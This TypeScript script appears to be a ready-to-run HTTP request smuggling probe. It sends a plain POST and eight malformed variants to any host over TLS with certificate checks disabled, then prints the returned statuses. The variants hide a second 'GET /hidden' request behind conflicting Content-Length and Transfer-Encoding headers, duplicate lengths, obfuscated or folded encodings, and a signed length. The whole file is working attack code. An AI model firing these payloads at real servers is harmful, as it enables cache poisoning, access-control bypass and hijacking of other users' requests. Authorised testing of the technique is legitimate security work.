/**
 * One plain request, and others that hide a second one, sent over TLS: `node smuggle.ts HOST PATH`. For each prints the statuses of
 * what was answered.
 */
import { connect } from 'node:tls';

const [host = '', path = ''] = process.argv.slice(2);
const hidden = `GET /hidden HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
const start = `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\n`;
/** So long nothing more comes, then the connection is ended. */
const quietMs = 1_000;

const requests: Readonly<Record<string, string>> = {
  plain: `${start}Content-Length: 2\r\n\r\n{}`,
  'length and chunks': `${start}Content-Length: ${hidden.length + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${hidden}`,
  'two lengths': `${start}Content-Length: 0\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
  'an unknown coding': `${start}Transfer-Encoding: xchunked\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
  'a coding with a space': `${start}Transfer-Encoding : chunked\r\nContent-Length: ${hidden.length + 5}\r\n\r\n0\r\n\r\n${hidden}`,
  'a folded coding': `${start}Transfer-Encoding:\r\n chunked\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
  'chunks twice': `${start}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n${hidden}`,
  'chunks in HTTP/1.0': `${start.replace('1.1', '1.0')}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n${hidden}`,
  'a length with a sign': `${start}Content-Length: +${hidden.length}\r\n\r\n${hidden}`,
};

for (const [name, request] of Object.entries(requests))
  process.stdout.write(`${name}: ${await answerTo(request)}\n`);

function answerTo(request: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const target = { host, port: 443, servername: host, rejectUnauthorized: false };
    const socket = connect(target, () => socket.write(request));
    let text = '';
    socket.setEncoding('latin1').on('data', (piece) => (text += piece));
    socket.setTimeout(quietMs, () => socket.destroy());
    // An end by the other side is an answer like any other.
    socket.on('error', (error: NodeJS.ErrnoException) => {
      if (error.code !== 'ECONNRESET') reject(error);
    });
    socket.on('close', () => {
      const statuses = [...text.matchAll(/HTTP\/1\.[01] (\d{3}) /g)].map(([, status]) => status);
      resolve(statuses.join(' and ') || 'none');
    });
  });
}
